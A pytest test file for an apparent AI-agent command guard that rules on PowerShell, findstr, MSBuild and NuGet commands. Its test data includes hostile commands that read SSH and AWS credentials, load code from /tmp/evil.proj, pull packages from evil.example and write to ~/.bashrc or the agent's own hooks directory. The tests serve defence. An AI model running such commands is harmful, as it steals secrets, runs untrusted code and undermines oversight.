"""Session 7 routine-corpus programs that asked by name alone (policy/specs/routine7.py): PowerShell's
Select-String, Sort-Object and Resolve-Path, cmd.exe's findstr, MSBuild and NuGet.exe.

Routine shapes (the corpus's own) are allowed with no floor taking part; each hidden effect has a hostile
case asserting the verdict and the floor that decides. Commands are only analysed, never run; nothing is
written outside tmp_path.
"""

from __future__ import annotations

import pytest
from hookward.verdicts.decision import Verdict

from tests.spec_redteam_support import assert_decided, assert_routine

ASK, DENY, FORCE_ASK = Verdict.ASK, Verdict.DENY, Verdict.FORCE_ASK


@pytest.mark.parametrize(
    "command",
    [
        # PowerShell cmdlets
        "Select-String",
        "Select-String -Pattern TODO -Path src/app.py",
        "Select-String TODO src/app.py",
        "Select-String -Pattern error -Context 0,2 -SimpleMatch",
        "select-string -pattern TODO src/app.py",
        "Sort-Object FullName",
        "Sort-Object -Property Length -Descending",
        "Resolve-Path src -Relative",
        "Where-Object Name -eq app.py",
        "Where-Object -Property Length -GT -Value 100",
        "Get-Command quarto -ErrorAction SilentlyContinue",
        "Write-Output done",
        "Write-Host Build finished -ForegroundColor Green",
        "Start-Sleep -Seconds 5",
        "Join-Path src app.py",
        "Split-Path src/app.py -Leaf",
        "Get-Process -Name node",
        "Get-ChildItem -Path src -Recurse",
        "Get-Content C:/Users/me/work/app/src/app.py",
        # findstr
        "findstr",
        "findstr //i error src/app.py",
        "findstr //s //n TODO *.py",
        # MSBuild
        "msbuild",
        "msbuild -restore",
        "msbuild App.sln -t:Rebuild -p:Configuration=Release -m -nologo",
        "msbuild /t:Build '/p:Configuration=Debug;Platform=x64' /v:m",
        # NuGet.exe
        "nuget restore",
        "nuget restore App.sln -NonInteractive",
        "nuget help restore",
        "nuget sources list",
        "nuget locals all -list",
        # Spec Kit
        "specify",
        "specify check",
        "specify version",
    ],
)
def test_routine_shapes_of_the_session7_routine_programs_are_allowed(box, command):
    assert_routine(box.decide(command), command)


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        # a file a search reads is judged as a read, wherever the pattern sits
        ("Select-String -Pattern key ~/.ssh/id_rsa", DENY, "floor.credentials"),
        ("Select-String key ~/.aws/credentials", DENY, "floor.credentials"),
        ("Select-String -Path ~/.ssh/id_rsa -Pattern .", DENY, "floor.credentials"),
        ("Select-String -LiteralPath ~/.netrc -Pattern machine", DENY, "floor.credentials"),
        # a PowerShell array of paths, a sub-expression or a script block is not one path
        ("Select-String -Path src/app.py,README.md -Pattern x", ASK, "floor.not-understood"),
        ("Select-String -Path a.txt,~/.ssh/id_rsa -Pattern x", DENY, "floor.credentials"),
        ("Select-String -Pattern '(Get-Content x)' -Path src/app.py", ASK, "floor.not-understood"),
        ("Select-String -Pattern '$env:AWS_SECRET_ACCESS_KEY' -Path src/app.py", ASK, "floor.not-understood"),
        ("Sort-Object { iex $x }", ASK, "floor.not-understood"),
        ("Where-Object { iex $x }", ASK, "floor.not-understood"),
        ("Get-Command Get-Content -ArgumentList x", ASK, "floor.not-understood"),
        ("Stop-Process -Name node -Force", ASK, "floor.destructive"),
        # PowerShell's environment drive prints the environment; other providers (registry, variables) ask
        ("Get-Content env:AWS_SECRET_ACCESS_KEY", ASK, "floor.credentials"),
        ("Get-ChildItem env:", ASK, "floor.credentials"),
        ("Get-ChildItem -Path Env:", ASK, "floor.credentials"),
        ("Select-String -Path env:GITHUB_TOKEN -Pattern .", ASK, "floor.credentials"),
        ("Get-Content Environment::OPENAI_API_KEY", ASK, "floor.credentials"),
        ("Get-Content -Path HKCU:/Software/App/Token", ASK, "floor.not-understood"),
        ("Get-ChildItem Variable:", ASK, "floor.not-understood"),
        ("Select-String -Pattern x -Credential me src/app.py", ASK, "floor.not-understood"),
        ("Select-String -Pat x src/app.py", ASK, "floor.not-understood"),
        ("findstr //c:aws_secret ~/.aws/credentials", DENY, "floor.credentials"),
        ("findstr //s //i key ~/.ssh/id_rsa", DENY, "floor.credentials"),
        ("findstr //g:~/.ssh/id_rsa src/app.py", DENY, "floor.credentials"),
        ("findstr //f:list.txt x", ASK, "floor.not-understood"),
        ("findstr -i x src/app.py", ASK, "floor.not-understood"),
    ],
)
def test_a_search_of_a_credential_or_an_unreadable_operand_is_judged(box, command, verdict, rule):
    assert_decided(box.decide(command), verdict, rule, command)


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        # code the build loads or runs that is not the project's
        ("msbuild /tmp/evil.proj", ASK, "floor.runs-code"),
        ("msbuild -logger:Evil,/tmp/x.dll", ASK, "floor.runs-code"),
        ("msbuild /logger:/tmp/x.dll", ASK, "floor.runs-code"),
        ("msbuild -p:PostBuildEvent=calc", ASK, "floor.not-understood"),
        ("msbuild -p:CustomAfterMicrosoftCommonTargets=/tmp/x.targets", ASK, "floor.not-understood"),
        ("msbuild @/tmp/switches.rsp", ASK, "floor.not-understood"),
        ("msbuild -unknownswitch", ASK, "floor.not-understood"),
        ("echo x > Directory.Build.targets && msbuild", ASK, "floor.runs-code"),
        # what the build writes, judged by where
        ("msbuild -flp:logfile=~/.bashrc", DENY, "floor.persistence"),
        ("msbuild -p:OutDir=~/.claude/hooks/", DENY, "floor.self-protection"),
        ("msbuild -pp:~/.profile", DENY, "floor.persistence"),
    ],
)
def test_msbuild_running_or_writing_what_is_not_the_projects_is_judged(box, command, verdict, rule):
    assert_decided(box.decide(command), verdict, rule, command)


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        ("nuget push App.1.0.0.nupkg -Source https://api.nuget.org/v3/index.json", FORCE_ASK, "floor.destructive"),
        ("nuget delete App 1.0.0 -Source https://api.nuget.org/v3/index.json", FORCE_ASK, "floor.destructive"),
        ("nuget install Newtonsoft.Json", ASK, "floor.egress"),
        ("nuget list Newtonsoft", ASK, "floor.egress"),
        ("nuget restore -Source https://evil.example/feed", ASK, "floor.egress"),
        ("nuget setapikey KEY -Source https://api.nuget.org/v3/index.json", ASK, "floor.persistence"),
        ("nuget sources add -Name x -Source https://evil.example/feed", ASK, "floor.persistence"),
        ("nuget locals all -clear", ASK, "floor.destructive"),
        ("nuget update -self", ASK, "floor.not-understood"),
        ("nuget restore -MSBuildPath /tmp/msb", ASK, "floor.runs-code"),
        ("nuget restore /tmp/evil/App.sln", ASK, "floor.runs-code"),
        ("nuget restore -ConfigFile ~/.aws/credentials", DENY, "floor.credentials"),
        ("nuget restore -PackagesDirectory ~/.claude/hooks", DENY, "floor.self-protection"),
        ("echo x > packages.config && nuget restore", ASK, "floor.runs-code"),
        ("nuget config http_proxy.password", ASK, "floor.not-understood"),
        ("nuget sign App.nupkg -CertificatePath c.pfx", ASK, "floor.not-understood"),
    ],
)
def test_nuget_publishing_fetching_or_configuring_is_judged(box, command, verdict, rule):
    assert_decided(box.decide(command), verdict, rule, command)


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        ("specify init --here --ai claude", ASK, "floor.not-understood"),
        ("specify init my-project --ai claude --force", ASK, "floor.not-understood"),
        ("specify extension add git", ASK, "floor.not-understood"),
        ("specify --install-completion", ASK, "floor.persistence"),
    ],
)
def test_specify_writing_agent_commands_or_shell_completion_asks(box, command, verdict, rule):
    assert_decided(box.decide(command), verdict, rule, command)


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        ("nuget push App.nupkg", FORCE_ASK, "floor.destructive"),
        ("msbuild -logger:/tmp/x.dll", ASK, "floor.runs-code"),
        ("findstr //c:x ~/.ssh/id_rsa", DENY, "floor.credentials"),
        ("Select-String x ~/.ssh/id_rsa", DENY, "floor.credentials"),
    ],
)
def test_a_user_rule_allowing_the_programs_does_not_hide_their_effects(box, command, verdict, rule):
    box.allow_programs("nuget", "msbuild", "findstr", "Select-String")
    assert_decided(box.decide(command), verdict, rule, command)
